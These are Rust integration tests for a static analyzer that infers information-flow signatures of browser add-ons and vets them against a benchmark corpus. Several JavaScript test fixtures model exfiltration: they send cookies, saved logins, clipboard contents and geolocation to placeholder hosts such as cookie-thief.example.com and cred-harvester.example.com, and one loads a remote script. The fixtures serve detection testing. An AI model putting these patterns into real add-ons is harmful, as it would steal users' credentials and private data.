        assert!(spans.spans().iter().any(|s| s.name == "fixpoint"));
        assert!(spans.spans().iter().any(|s| s.name == "ddg"));
        assert!(spans.spans().iter().any(|s| s.name == "propagate"));
        // Tracer counters and Report counters are the same totals.
        assert_eq!(spans.counters(), &report.counters);
        assert!(report.counters.get(Counter::SignatureFlows) > 0);
    }

    #[test]
    fn service_engine_maps_outcomes_and_feeds_metrics() {
        let default = AnalysisConfig::default();
        let metrics = MetricsRegistry::new();
        match service_engine("var x = 1;", &default, &metrics) {
            sigserve::VetOutcome::Report { signature_json, .. } => {
                assert!(signature_json.starts_with('{'));
            }
            other => panic!("expected Report, got {other:?}"),
        }
        let snap = metrics.snapshot();
        assert!(
            snap.counters
                .iter()
                .any(|(name, v)| name == "pipeline_worklist_steps" && *v > 0),
            "pipeline counters folded into the registry: {snap:?}"
        );
        assert!(snap.histograms.iter().any(|h| h.name == "pipeline_p1_us"));

        match service_engine("var = ;", &default, &metrics) {
            sigserve::VetOutcome::Error { message, .. } => {
                assert!(message.contains("parse error"));
            }
            other => panic!("expected Error, got {other:?}"),
        }
        let tight = AnalysisConfig::default().with_step_budget(1);
        match service_engine("var x = 1; var y = x;", &tight, &metrics) {
            sigserve::VetOutcome::Timeout { steps, .. } => assert!(steps > 1),
            other => panic!("expected Timeout, got {other:?}"),
        }
    }
}
