//! Integration tests for PDG slicing on real corpus addons: the vetter's
//! "show me the code behind this signature entry" workflow.

use addon_sig::analyze_addon;
use jspdg::{backward_slice, chop, witness_path, SliceFilter};
use std::collections::BTreeSet;

/// Source lines touched by a statement set.
fn lines(report: &addon_sig::Report, stmts: &BTreeSet<jsir::StmtId>) -> BTreeSet<u32> {
    stmts
        .iter()
        .map(|s| report.lowered.program.stmt(*s).span.line)
        .collect()
}

#[test]
fn pinpoints_geocode_slice_reaches_the_clip_handler() {
    let addon = corpus::addon_by_name("PinPoints").unwrap();
    let report = analyze_addon(addon.source).unwrap();
    // The maps.google.com sink.
    let sink = report
        .analysis
        .sinks
        .iter()
        .find(|s| {
            s.domain
                .known_text()
                .is_some_and(|d| d.contains("maps.google.com"))
        })
        .expect("geocode sink");
    let slice = backward_slice(&report.pdg, sink.stmt, SliceFilter::All);
    let ls = lines(&report, &slice);
    // The slice must include the geocode request construction and the
    // context-menu handler that triggers it.
    let src_lines: Vec<(usize, &str)> = addon.source.lines().enumerate().collect();
    let geocode_line = src_lines
        .iter()
        .find(|(_, l)| l.contains("geocodeEndpoint + encodeURIComponent"))
        .map(|(i, _)| *i as u32 + 1)
        .expect("geocode line exists");
    let handler_line = src_lines
        .iter()
        .find(|(_, l)| l.contains("ppt_geocodeAndSave(text)"))
        .map(|(i, _)| *i as u32 + 1)
        .expect("handler call line exists");
    assert!(ls.contains(&geocode_line), "geocode construction in slice");
    assert!(ls.contains(&handler_line), "clip handler in slice");
}

#[test]
fn youtubedownloader_video_id_witness_is_explicit() {
    let addon = corpus::addon_by_name("YoutubeDownloader").unwrap();
    let report = analyze_addon(addon.source).unwrap();
    // Source: the URL read; sink: the get_video_info request.
    let source = *report
        .analysis
        .source_stmts()
        .iter()
        .find(|(_, k)| k.contains(&jsanalysis::SourceKind::Url))
        .map(|(s, _)| s)
        .unwrap();
    let sink = report
        .analysis
        .sinks
        .iter()
        .find(|s| {
            s.domain
                .known_text()
                .is_some_and(|d| d.contains("get_video_info"))
        })
        .expect("video info sink");
    // A data-only witness must exist: the flow is explicit.
    let path = witness_path(&report.pdg, source, sink.stmt, SliceFilter::DataOnly);
    assert!(path.is_some(), "explicit video-id flow has a pure data path");
    // And it passes through the extractor function.
    let p = path.unwrap();
    let ls: BTreeSet<u32> = p
        .iter()
        .map(|(s, _)| report.lowered.program.stmt(*s).span.line)
        .collect();
    let extract_line = addon
        .source
        .lines()
        .position(|l| l.contains("url.substring(marker + 2)"))
        .map(|i| i as u32 + 1)
        .expect("extractor line");
    assert!(
        ls.contains(&extract_line),
        "witness path {ls:?} misses the extractor at line {extract_line}"
    );
}

#[test]
fn vk_flow_has_no_data_only_witness() {
    // VKVideoDownloader's flow is purely implicit: a data-only filter must
    // find NO path from the URL read to the send.
    let addon = corpus::addon_by_name("VKVideoDownloader").unwrap();
    let report = analyze_addon(addon.source).unwrap();
    let source = *report
        .analysis
        .source_stmts()
        .iter()
        .find(|(_, k)| k.contains(&jsanalysis::SourceKind::Url))
        .map(|(s, _)| s)
        .unwrap();
    let sink = report
        .analysis
        .sinks
        .iter()
        .find(|s| s.kind == jsanalysis::SinkKind::Send)
        .unwrap();
    assert!(
        witness_path(&report.pdg, source, sink.stmt, SliceFilter::DataOnly).is_none(),
        "url data must not reach the send"
    );
    assert!(
        witness_path(&report.pdg, source, sink.stmt, SliceFilter::All).is_some(),
        "but a control-carrying path exists"
    );
}

#[test]
fn chop_is_smaller_than_whole_addon() {
    let addon = corpus::addon_by_name("LivePagerank").unwrap();
    let report = analyze_addon(addon.source).unwrap();
    let source = *report
        .analysis
        .source_stmts()
        .iter()
        .find(|(_, k)| k.contains(&jsanalysis::SourceKind::Url))
        .map(|(s, _)| s)
        .unwrap();
    let sink = report
        .analysis
        .sinks
        .iter()
        .find(|s| s.kind == jsanalysis::SinkKind::Send)
        .unwrap();
    let c = chop(&report.pdg, source, sink.stmt, SliceFilter::All);
    assert!(!c.is_empty());
    // The chop focuses the vetter: far fewer statements than the addon.
    assert!(
        c.len() * 3 < report.lowered.program.stmt_count(),
        "chop of {} statements vs {} total is not focusing anything",
        c.len(),
        report.lowered.program.stmt_count()
    );
}
