//! Integration tests for the vetting daemon: concurrent clients against
//! the real pipeline, CLI/service response equivalence, cache behavior
//! across resubmission rounds, and budget-degraded verdicts.

use addon_sig::sigserve::{Client, ServeConfig, Server};
use addon_sig::{service_engine, Pipeline};
use minijson::Json;

/// Binds an ephemeral daemon on the real pipeline.
fn bind(cfg: ServeConfig) -> Server {
    Server::builder()
        .config(cfg)
        .addr("127.0.0.1:0")
        .analyze(service_engine)
        .start()
        .expect("bind")
}

/// Fetches the (hits, misses) cache counters.
fn cache_counts(client: &mut Client) -> (f64, f64) {
    let stats = client.stats().expect("stats");
    (
        stats["cache"]["hits"].as_f64().unwrap(),
        stats["cache"]["misses"].as_f64().unwrap(),
    )
}

/// One round: `clients` concurrent connections each vet every corpus
/// addon once, asserting each response matches its expected signature
/// document byte for byte.
fn run_round(addr: std::net::SocketAddr, clients: usize, expected: &[(String, String)]) {
    std::thread::scope(|scope| {
        for c in 0..clients {
            scope.spawn(move || {
                let mut client = Client::connect(addr).expect("connect");
                // Stagger the order per client so duplicate submissions
                // of the same addon race through the daemon.
                let mut order: Vec<&(String, String)> = expected.iter().collect();
                order.rotate_left(c % expected.len());
                for (name, sig_json) in order {
                    let resp = client.vet_source(Some(name), source_of(name)).expect("vet");
                    assert_eq!(resp["verdict"], "ok", "{name}");
                    assert_eq!(resp["name"].as_str(), Some(name.as_str()));
                    // The service's signature value must reproduce the
                    // bytes `vet --json` prints for the same addon.
                    assert_eq!(
                        &resp["signature"].to_string_pretty(),
                        sig_json,
                        "{name}: service signature diverged from the CLI document"
                    );
                }
            });
        }
    });
}

fn source_of(name: &str) -> &'static str {
    corpus::addon_by_name(name).expect("corpus addon").source
}

#[test]
fn concurrent_clients_match_cli_and_resubmissions_hit_the_cache() {
    // The documents `vet --json` prints (Signature::to_json), computed
    // through the plain library pipeline.
    let expected: Vec<(String, String)> = corpus::addons()
        .iter()
        .map(|a| {
            let report = Pipeline::new().run(a.source).expect("pipeline");
            (a.name.to_owned(), report.signature.to_json())
        })
        .collect();

    let server = bind(ServeConfig::default());
    let addr = server.local_addr();
    let mut probe = Client::connect(addr).expect("connect");

    // Round 1: 4 concurrent clients, cold cache. Every addon is analyzed
    // at most a handful of times (racing duplicates may share a result).
    run_round(addr, 4, &expected);
    let (hits_r1, misses_r1) = cache_counts(&mut probe);
    assert_eq!(
        hits_r1 + misses_r1,
        4.0 * expected.len() as f64,
        "every round-1 submission passes through the cache"
    );
    assert!(
        misses_r1 >= expected.len() as f64,
        "each addon must miss at least once on a cold cache"
    );

    // Round 2: identical resubmissions must be answered from the cache.
    run_round(addr, 4, &expected);
    let (hits_r2, misses_r2) = cache_counts(&mut probe);
    let round2_lookups = (hits_r2 + misses_r2) - (hits_r1 + misses_r1);
    let round2_hit_rate = (hits_r2 - hits_r1) / round2_lookups;
    assert!(
        round2_hit_rate >= 0.9,
        "round 2 must be >=90% cache hits, got {:.0}%",
        round2_hit_rate * 100.0
    );

    // The real engine feeds the metrics registry: pipeline counters and
    // per-phase latency histograms ride along in every stats response.
    let stats = probe.stats().expect("stats");
    assert!(
        stats["metrics"]["counters"]["pipeline_worklist_steps"]
            .as_f64()
            .is_some_and(|v| v > 0.0),
        "pipeline counters missing from stats metrics: {stats}"
    );
    assert!(
        stats["metrics"]["histograms"]["pipeline_p1_us"]["count"]
            .as_f64()
            .is_some_and(|v| v > 0.0),
        "phase-latency histograms missing from stats metrics"
    );

    let ack = probe.shutdown().expect("shutdown");
    assert_eq!(ack["kind"], "shutdown_ack");
    assert_eq!(
        ack["stats"]["jobs"]["rejected"].as_f64(),
        Some(0.0),
        "this load fits the queue; nothing should be shed"
    );
    server.join();
}

#[test]
fn step_budget_yields_timeout_verdict_and_daemon_survives() {
    // A budget far below any corpus addon's real step count (PinPoints
    // needs ~1000 steps) but comfortably above trivial programs.
    let mut cfg = ServeConfig::default();
    cfg.analysis.step_budget = Some(25);
    let server = bind(cfg);
    let mut client = Client::connect(server.local_addr()).expect("connect");

    let resp = client
        .vet_source(Some("PinPoints"), source_of("PinPoints"))
        .expect("vet");
    assert_eq!(
        resp["verdict"], "timeout",
        "a 25-step budget cannot finish a real addon"
    );
    assert!(
        resp["steps"].as_f64().unwrap() > 25.0,
        "the timeout reports how far the analysis got"
    );

    // The worker survived the abort: the same daemon still vets small
    // inputs and reports the abort in its counters.
    let ok = client.vet_source(Some("tiny"), "var x = 1;").expect("vet");
    assert_eq!(ok["verdict"], "ok", "daemon must keep serving after a timeout");
    let stats = client.stats().expect("stats");
    assert_eq!(stats["jobs"]["budget_aborts"].as_f64(), Some(1.0));

    // Step-budget timeouts are deterministic, so resubmitting the same
    // addon is answered from the cache — still as a timeout.
    let again = client
        .vet_source(Some("PinPoints"), source_of("PinPoints"))
        .expect("vet");
    assert_eq!(again["verdict"], "timeout");
    assert_eq!(again["cached"], Json::Bool(true));

    client.shutdown().expect("shutdown");
    server.join();
}

#[test]
fn overload_response_when_queue_is_saturated() {
    // One worker stuck on a slow (budget-less) analysis plus a one-slot
    // queue: the third concurrent submission must be shed as
    // `overloaded`, not queued without bound.
    let cfg = ServeConfig {
        workers: 1,
        queue_cap: 1,
        ..ServeConfig::default()
    };
    let server = bind(cfg);
    let addr = server.local_addr();
    let slow = source_of("LivePagerank");
    let overloads: usize = std::thread::scope(|scope| {
        let handles: Vec<_> = (0..6)
            .map(|i| {
                scope.spawn(move || {
                    let mut client = Client::connect(addr).expect("connect");
                    // Distinct sources: no cache sharing between clients.
                    let unique = format!("var fill{i} = 1;\n{slow}");
                    let resp = client.vet_source(None, &unique).expect("vet");
                    (resp["kind"] == "overloaded") as usize
                })
            })
            .collect();
        handles.into_iter().map(|h| h.join().unwrap()).sum()
    });
    // 1 in flight + 1 queued leaves up to 4 submissions to shed; timing
    // decides the exact count, but with 6 concurrent slow jobs at least
    // one must see a full queue.
    assert!(
        overloads >= 1,
        "expected at least one overloaded response from a saturated queue"
    );
    let mut probe = Client::connect(addr).expect("connect");
    let stats = probe.stats().expect("stats");
    assert_eq!(stats["jobs"]["rejected"].as_f64(), Some(overloads as f64));
    probe.shutdown().expect("shutdown");
    server.join();
}
