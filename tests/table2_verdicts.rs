//! The headline reproduction: running signature inference over the whole
//! benchmark corpus must reproduce the per-addon verdicts of Table 2
//! (five pass, two fail on network-domain imprecision only, three leak
//! with the specific undocumented flows the paper describes).

use addon_sig::analyze_addon;
use jsanalysis::{SinkKind, SourceKind};
use jssig::{compare, FlowType, MatchQuality, Verdict};

fn t(n: u8) -> FlowType {
    FlowType(n - 1)
}

fn run(name: &str) -> (corpus::Addon, addon_sig::Report, jssig::Comparison) {
    let addon = corpus::addon_by_name(name).expect("benchmark exists");
    let report = analyze_addon(addon.source)
        .unwrap_or_else(|e| panic!("{name}: pipeline failed: {e}"));
    let cmp = compare(
        &report.signature,
        &addon.manual,
        addon.real_extra_flow,
        addon.real_extra_sink,
    );
    (addon, report, cmp)
}

#[test]
fn livepagerank_passes_with_type1_url_flow() {
    let (_, report, cmp) = run("LivePagerank");
    assert_eq!(
        cmp.verdict,
        Verdict::Pass,
        "signature:\n{}\nextra: {:?}\nextra sinks: {:?}\nmissing: {:?}",
        report.signature,
        cmp.extra,
        cmp.extra_sinks,
        cmp.missing
    );
    let entry = report
        .signature
        .flows
        .iter()
        .find(|e| e.source == SourceKind::Url)
        .expect("url flow inferred");
    assert_eq!(entry.flow, t(1), "explicit flow is the strongest type");
    assert!(entry
        .sink
        .domain
        .known_text()
        .unwrap()
        .contains("toolbarqueries.google.com"));
}

#[test]
fn lessspamplease_fails_on_domain_imprecision_only() {
    let (_, report, cmp) = run("LessSpamPlease");
    assert_eq!(cmp.verdict, Verdict::Fail, "signature:\n{}", report.signature);
    // Per the paper: source, sink and flow type are right; only the
    // domain is imprecise.
    assert!(cmp
        .matched
        .iter()
        .any(|(_, _, q)| *q == MatchQuality::ImpreciseDomain));
    assert!(cmp.extra.is_empty(), "no spurious flows: {:?}", cmp.extra);
    assert!(cmp.missing.is_empty(), "no missed flows: {:?}", cmp.missing);
}

#[test]
fn youtubedownloader_leaks_explicit_video_id_flow() {
    let (_, report, cmp) = run("YoutubeDownloader");
    assert_eq!(cmp.verdict, Verdict::Leak, "signature:\n{}", report.signature);
    // The real extra flow is an explicit (data) flow to youtube.com.
    let real_extras: Vec<_> = cmp.extra.iter().filter(|(_, real)| *real).collect();
    assert!(!real_extras.is_empty());
    assert!(
        real_extras
            .iter()
            .all(|(e, _)| e.flow == t(1) || e.flow == t(2)),
        "video-id flow must be a data flow: {real_extras:?}"
    );
    // The documented implicit flow is also found.
    assert!(
        cmp.matched.iter().any(|(_, e, _)| e.flow == t(3)),
        "implicit youtube check missing:\n{}",
        report.signature
    );
}

#[test]
fn vkvideodownloader_fails_with_unknown_domain() {
    let (_, report, cmp) = run("VKVideoDownloader");
    assert_eq!(cmp.verdict, Verdict::Fail, "signature:\n{}", report.signature);
    // Flow types correct (implicit, amplified), only the domain unknown.
    assert!(cmp
        .matched
        .iter()
        .all(|(_, e, _)| e.flow == t(3)));
    assert!(cmp
        .matched
        .iter()
        .any(|(_, _, q)| *q == MatchQuality::ImpreciseDomain));
    assert!(cmp.extra.is_empty(), "no spurious flows: {:?}", cmp.extra);
}

#[test]
fn hypertranslate_passes_with_amplified_key_flow() {
    let (_, report, cmp) = run("HyperTranslate");
    assert_eq!(
        cmp.verdict,
        Verdict::Pass,
        "signature:\n{}\nextra: {:?}\nextra sinks: {:?}\nmissing: {:?}",
        report.signature,
        cmp.extra,
        cmp.extra_sinks,
        cmp.missing
    );
    let entry = report
        .signature
        .flows
        .iter()
        .find(|e| e.source == SourceKind::Key)
        .expect("key flow inferred");
    assert_eq!(entry.flow, t(3), "keypress listener flow is local^amp");
}

#[test]
fn chessnotifier_passes_as_plain_communication() {
    let (_, report, cmp) = run("Chess.comNotifier");
    assert_eq!(
        cmp.verdict,
        Verdict::Pass,
        "signature:\n{}\nextra: {:?}\nextra sinks: {:?}",
        report.signature,
        cmp.extra,
        cmp.extra_sinks
    );
    assert!(report.signature.flows.is_empty(), "category C: no flows");
    assert!(report
        .signature
        .sinks
        .iter()
        .any(|s| s.kind == SinkKind::Send
            && s.domain.known_text().unwrap_or("").contains("chess.com")));
}

#[test]
fn coffeepodsdeals_passes() {
    let (_, report, cmp) = run("CoffeePodsDeals");
    assert_eq!(
        cmp.verdict,
        Verdict::Pass,
        "signature:\n{}\nextra sinks: {:?}",
        report.signature,
        cmp.extra_sinks
    );
    assert!(report.signature.flows.is_empty());
}

#[test]
fn odeskjobwatcher_passes() {
    let (_, report, cmp) = run("oDeskJobWatcher");
    assert_eq!(
        cmp.verdict,
        Verdict::Pass,
        "signature:\n{}\nextra sinks: {:?}",
        report.signature,
        cmp.extra_sinks
    );
    assert!(report.signature.flows.is_empty());
}

#[test]
fn pinpoints_leaks_undocumented_maps_traffic() {
    let (_, report, cmp) = run("PinPoints");
    assert_eq!(cmp.verdict, Verdict::Leak, "signature:\n{}", report.signature);
    // The leak is a sink-only entry: maps.google.com.
    let real_sinks: Vec<_> = cmp.extra_sinks.iter().filter(|(_, r)| *r).collect();
    assert!(
        real_sinks
            .iter()
            .any(|(s, _)| s.domain.known_text().unwrap_or("").contains("maps.google.com")),
        "maps.google.com sink missing: {:?}",
        cmp.extra_sinks
    );
    // The documented save endpoint is matched, not extra.
    assert!(report
        .signature
        .sinks
        .iter()
        .any(|s| s.domain.known_text().unwrap_or("").contains("yourpinpoints.com")));
}

#[test]
fn googletransliterate_leaks_implicit_url_check() {
    let (_, report, cmp) = run("GoogleTransliterate");
    assert_eq!(cmp.verdict, Verdict::Leak, "signature:\n{}", report.signature);
    let real_extras: Vec<_> = cmp.extra.iter().filter(|(_, r)| *r).collect();
    assert!(
        real_extras
            .iter()
            .any(|(e, _)| e.source == SourceKind::Url && e.flow == t(3)),
        "about:blank check should be an amplified implicit url flow: {:?}",
        cmp.extra
    );
}

#[test]
fn table2_verdict_totals() {
    let mut pass = 0;
    let mut fail = 0;
    let mut leak = 0;
    for addon in corpus::addons() {
        let report = analyze_addon(addon.source)
            .unwrap_or_else(|e| panic!("{}: {e}", addon.name));
        let cmp = compare(
            &report.signature,
            &addon.manual,
            addon.real_extra_flow,
            addon.real_extra_sink,
        );
        assert_eq!(
            cmp.verdict, addon.paper_verdict,
            "{} verdict mismatch; signature:\n{}",
            addon.name, report.signature
        );
        match cmp.verdict {
            Verdict::Pass => pass += 1,
            Verdict::Fail => fail += 1,
            Verdict::Leak => leak += 1,
        }
    }
    assert_eq!((pass, fail, leak), (5, 2, 3), "Table 2 totals");
}
