//! Cross-crate integration tests for behaviors that span the whole
//! pipeline: event-loop recency, configurable policies, API reporting,
//! and the report surface (JSON, witnesses, timings).

use addon_sig::{analyze_addon, Error, Pipeline};
use jsanalysis::{AnalysisConfig, BudgetKind, SourceKind, StringDomain};
use jssig::FlowType;

fn t(n: u8) -> FlowType {
    FlowType(n - 1)
}

#[test]
fn handler_locals_stay_precise_across_event_loop_iterations() {
    // The recency-abstraction regression test: locals of an event handler
    // must remain strongly updatable even though the handler re-runs on
    // every event-loop iteration.
    let report = analyze_addon(
        r#"
function onLoad() {
  var url = content.location.href;
  var req = new XMLHttpRequest();
  req.open("GET", "http://precise.example.com/r?u=" + encodeURIComponent(url));
  req.send(null);
}
gBrowser.addEventListener("load", onLoad, true);
"#,
    )
    .unwrap();
    let entry = report
        .signature
        .flows
        .iter()
        .find(|e| e.source == SourceKind::Url)
        .expect("url flow");
    assert_eq!(entry.flow, t(1), "handler flow must stay datastrong");
    assert!(entry
        .sink
        .domain
        .known_text()
        .unwrap()
        .starts_with("http://precise.example.com"));
}

#[test]
fn cookie_source_flows() {
    let report = analyze_addon(
        r#"
var c = document.cookie;
var req = XHRWrapper("http://cookie-thief.example.com/c");
req.send(c);
"#,
    )
    .unwrap();
    assert!(report
        .signature
        .flows
        .iter()
        .any(|e| e.source == SourceKind::Cookie && e.flow == t(1)));
}

#[test]
fn password_source_flows() {
    let report = analyze_addon(
        r#"
var logins = loginManager.getAllLogins();
var req = XHRWrapper("http://cred-harvester.example.com/up");
req.send(logins);
"#,
    )
    .unwrap();
    assert!(
        report
            .signature
            .flows
            .iter()
            .any(|e| e.source == SourceKind::Password),
        "password exfiltration missed:\n{}",
        report.signature
    );
}

#[test]
fn clipboard_source_flows() {
    let report = analyze_addon(
        r#"
var data = clipboard.read();
var req = XHRWrapper("http://paste.example.com/save");
req.send(data);
"#,
    )
    .unwrap();
    assert!(report
        .signature
        .flows
        .iter()
        .any(|e| e.source == SourceKind::Clipboard));
}

#[test]
fn geolocation_callback_flow() {
    let report = analyze_addon(
        r#"
navigator.geolocation.getCurrentPosition(function (pos) {
  var req = XHRWrapper("http://tracker.example.com/loc");
  req.send(pos.coords.latitude + "," + pos.coords.longitude);
});
"#,
    )
    .unwrap();
    assert!(
        report
            .signature
            .flows
            .iter()
            .any(|e| e.source == SourceKind::Geoloc),
        "geolocation flow missed:\n{}",
        report.signature
    );
}

#[test]
fn source_config_filters_reported_kinds() {
    let src = r#"
var c = document.cookie;
var req = XHRWrapper("http://sink.example.com/x");
req.send(c);
"#;
    // Default: cookie flows are reported.
    let full = analyze_addon(src).unwrap();
    assert!(full
        .signature
        .flows
        .iter()
        .any(|e| e.source == SourceKind::Cookie));
    // With cookies removed from the interesting set: silence.
    let config = AnalysisConfig::default().with_sources([SourceKind::Url]);
    let filtered = Pipeline::new().config(config).run(src).unwrap();
    assert!(filtered.signature.flows.is_empty());
    // The sink-only entry remains either way (Figure 3's bare `sink`).
    assert!(!filtered.signature.sinks.is_empty());
}

#[test]
fn constant_string_ablation_loses_domains() {
    let src = r#"
var u = content.location.href;
var req = new XMLHttpRequest();
req.open("GET", "http://keeps-prefix.example.com/q?u=" + u);
req.send(null);
"#;
    let prefix = analyze_addon(src).unwrap();
    let sink = prefix.signature.sinks.iter().next().unwrap();
    assert!(sink.domain.known_text().unwrap().contains("keeps-prefix"));

    let config = AnalysisConfig::default().with_string_domain(StringDomain::ConstantOnly);
    let constant = Pipeline::new().config(config).run(src).unwrap();
    let sink = constant.signature.sinks.iter().next().unwrap();
    assert!(
        sink.domain.known_text().unwrap_or("").is_empty(),
        "constant-only domain should be unknown, got {}",
        sink.domain
    );
}

#[test]
fn deprecated_apis_reported() {
    let report = analyze_addon("var s = escape(\"a b\"); window.openDialog();").unwrap();
    assert!(report.signature.apis.contains("escape"));
    assert!(report.signature.apis.contains("window.openDialog"));
}

#[test]
fn scriptloader_is_both_api_and_sink() {
    let report = analyze_addon(
        "Services.scriptloader.loadSubScript(\"https://cdn.example.com/inject.js\");",
    )
    .unwrap();
    assert!(report
        .signature
        .apis
        .contains("Services.scriptloader.loadSubScript"));
    assert!(report
        .signature
        .sinks
        .iter()
        .any(|s| s.domain.known_text().unwrap_or("").contains("cdn.example.com")));
}

#[test]
fn json_report_shape() {
    let report = analyze_addon(
        "var u = content.location.href; var r = XHRWrapper(\"http://j.example/x\"); r.send(u);",
    )
    .unwrap();
    let json = minijson::Json::parse(&report.signature.to_json()).expect("valid json");
    assert!(json["flows"].as_array().is_some_and(|a| !a.is_empty()));
    assert_eq!(json["flows"][0]["flow"], "type1");
    assert!(json["sinks"].as_array().is_some());
    let lines = json["flows"][0]["witness_lines"].as_array().unwrap();
    assert!(!lines.is_empty(), "witness lines present");
}

#[test]
fn timings_are_populated() {
    let report = analyze_addon("var x = 1;").unwrap();
    // Phases are measured (they may be sub-microsecond but not absurd).
    assert!(report.timings.p1.as_nanos() > 0);
    assert!(report.timings.p2.as_nanos() > 0);
    assert!(report.timings.p3.as_nanos() > 0);
    assert_eq!(
        report.timings.total(),
        report.timings.p1 + report.timings.p2 + report.timings.p3
    );
}

#[test]
fn step_limit_surfaces_as_error() {
    let config = AnalysisConfig::default().with_max_steps(1);
    let r = Pipeline::new().config(config).run("var a = 1; var b = a;");
    assert!(matches!(
        r,
        Err(Error::Budget {
            kind: BudgetKind::SafetyValve,
            ..
        })
    ));
}

#[test]
fn multiple_sinks_distinguished_by_domain() {
    let report = analyze_addon(
        r#"
var u = content.location.href;
var first = XHRWrapper("http://one.example.com/a");
first.send(u);
var second = XHRWrapper("http://two.example.com/b");
second.send("constant");
"#,
    )
    .unwrap();
    // The URL flows only to the first sink.
    let url_domains: Vec<&str> = report
        .signature
        .flows
        .iter()
        .filter(|e| e.source == SourceKind::Url)
        .filter_map(|e| e.sink.domain.known_text())
        .collect();
    assert!(url_domains.iter().all(|d| d.contains("one.example.com")));
    // Both sinks appear as sink-only entries.
    assert_eq!(report.signature.sinks.len(), 2);
}

#[test]
fn whole_corpus_analyzes_within_budget() {
    for addon in corpus::addons() {
        let report = analyze_addon(addon.source)
            .unwrap_or_else(|e| panic!("{}: {e}", addon.name));
        assert!(
            report.analysis.steps < 500_000,
            "{} took {} steps",
            addon.name,
            report.analysis.steps
        );
        // Every corpus addon communicates over the network.
        assert!(
            !report.signature.sinks.is_empty(),
            "{} produced no sinks",
            addon.name
        );
    }
}
