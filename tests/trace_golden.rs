//! Golden tests for the sigtrace observability layer: the pipeline
//! counters are *measurements with a determinism contract*, not
//! best-effort telemetry.
//!
//! Two tiers of guarantee, matching `Counter::order_independent`:
//!
//! 1. For a fixed configuration, the full counter set is bit-identical
//!    across runs (and across threads — the symbol interner is the only
//!    shared state and must not leak into counts).
//! 2. Across worklist orders (FIFO vs RPO), the phase-1 route counters
//!    legitimately differ — RPO exists to shrink them — and the
//!    state-derived counters (data-edge tallies, flow propagation) may
//!    shift by a hair, because strong updates under the recency
//!    abstraction are non-monotone and the orders can settle on
//!    slightly different sound states. The structural and
//!    signature-level counters are invariant.

use addon_sig::{Pipeline, Report};
use jsanalysis::{AnalysisConfig, WorklistOrder};
use sigtrace::{Counter, Counters, SpanCollector};

/// Runs one addon with a `SpanCollector` attached, returning the
/// collector's counter totals alongside the report.
fn traced_run(source: &str, order: WorklistOrder) -> (Counters, Report) {
    let mut spans = SpanCollector::new();
    let report = Pipeline::new()
        .config(AnalysisConfig::default().with_worklist(order))
        .tracer(&mut spans)
        .run(source)
        .expect("pipeline");
    (*spans.counters(), report)
}

/// Tier 1: for a fixed config, every counter is bit-identical across
/// runs, and the collector's totals agree with `Report::counters`.
#[test]
fn counters_are_bit_identical_across_runs() {
    for addon in corpus::addons() {
        let (first, report) = traced_run(addon.source, WorklistOrder::Rpo);
        let (second, _) = traced_run(addon.source, WorklistOrder::Rpo);
        assert_eq!(
            first, second,
            "{}: counters differ between identical runs",
            addon.name
        );
        assert_eq!(
            first, report.counters,
            "{}: collector totals diverge from Report::counters",
            addon.name
        );
    }
}

/// Tier 1, parallel edition: tracing the corpus on scoped threads gives
/// the same totals as a sequential sweep.
#[test]
fn parallel_traced_counters_match_sequential() {
    let addons = corpus::addons();
    let sequential: Vec<Counters> = addons
        .iter()
        .map(|a| traced_run(a.source, WorklistOrder::Rpo).0)
        .collect();
    let parallel: Vec<Counters> = std::thread::scope(|s| {
        let handles: Vec<_> = addons
            .iter()
            .map(|a| s.spawn(move || traced_run(a.source, WorklistOrder::Rpo).0))
            .collect();
        handles
            .into_iter()
            .map(|h| h.join().expect("traced thread panicked"))
            .collect()
    });
    for ((addon, seq), par) in addons.iter().zip(&sequential).zip(&parallel) {
        assert_eq!(seq, par, "{}: parallel trace diverged", addon.name);
    }
}

/// Tier 2: the order-independent subset is identical between FIFO and
/// RPO, while the route counters actually do differ somewhere (else the
/// classification would be vacuous).
#[test]
fn order_independent_subset_matches_across_worklist_orders() {
    let mut some_route_counter_differed = false;
    for addon in corpus::addons() {
        let (rpo, _) = traced_run(addon.source, WorklistOrder::Rpo);
        let (fifo, _) = traced_run(addon.source, WorklistOrder::Fifo);
        assert_eq!(
            rpo.order_independent(),
            fifo.order_independent(),
            "{}: fixpoint-output counters differ between worklist orders",
            addon.name
        );
        if rpo.get(Counter::WorklistSteps) != fifo.get(Counter::WorklistSteps) {
            some_route_counter_differed = true;
        }
    }
    assert!(
        some_route_counter_differed,
        "route counters identical on every addon: the order-dependent \
         classification is not observing anything"
    );
}

/// The counters cross-check against the phase results they summarize.
#[test]
fn counters_agree_with_phase_results() {
    let addon = corpus::addon_by_name("LivePagerank").expect("corpus addon");
    let (counters, report) = traced_run(addon.source, WorklistOrder::Rpo);
    assert_eq!(
        counters.get(Counter::WorklistSteps),
        report.analysis.steps as u64
    );
    assert_eq!(counters.get(Counter::StateJoins), report.analysis.joins as u64);
    assert_eq!(
        counters.get(Counter::HeapCowClones),
        report.analysis.heap_cow_clones
    );
    // Every edge lands in exactly one base-kind tally; the amplified
    // counter marks a subset of the control edges on top of that.
    let pdg_edges: u64 = [
        Counter::PdgDataStrongEdges,
        Counter::PdgDataWeakEdges,
        Counter::PdgCtrlLocalEdges,
        Counter::PdgCtrlNonLocExpEdges,
        Counter::PdgCtrlNonLocImpEdges,
    ]
    .into_iter()
    .map(|c| counters.get(c))
    .sum();
    assert_eq!(pdg_edges, report.pdg.edge_count() as u64);
    assert!(
        counters.get(Counter::PdgCtrlAmplifiedEdges)
            <= counters.get(Counter::PdgCtrlLocalEdges)
                + counters.get(Counter::PdgCtrlNonLocExpEdges)
                + counters.get(Counter::PdgCtrlNonLocImpEdges)
    );
    assert_eq!(
        counters.get(Counter::SignatureFlows),
        report.signature.flows.len() as u64
    );
    assert!(counters.get(Counter::FlowPropSteps) > 0);
}

/// The span stream keeps stack discipline and covers all five stages
/// even through sub-spans (fixpoint, ddg, propagate).
#[test]
fn span_stream_nests_and_covers_the_stages() {
    // LivePagerank has url->send flows, so phase 3 actually propagates.
    let addon = corpus::addon_by_name("LivePagerank").expect("corpus addon");
    let mut spans = SpanCollector::new();
    Pipeline::new()
        .tracer(&mut spans)
        .run(addon.source)
        .expect("pipeline");
    let top: Vec<&str> = spans
        .spans()
        .iter()
        .filter(|s| s.depth == 0)
        .map(|s| s.name.as_str())
        .collect();
    assert_eq!(top, ["parse", "lower", "phase1", "phase2", "phase3"]);
    // Sub-spans exist and sit strictly inside their parents.
    for name in ["fixpoint", "ddg", "propagate"] {
        assert!(
            spans.spans().iter().any(|s| s.name == name && s.depth == 1),
            "missing sub-span {name}"
        );
    }
}
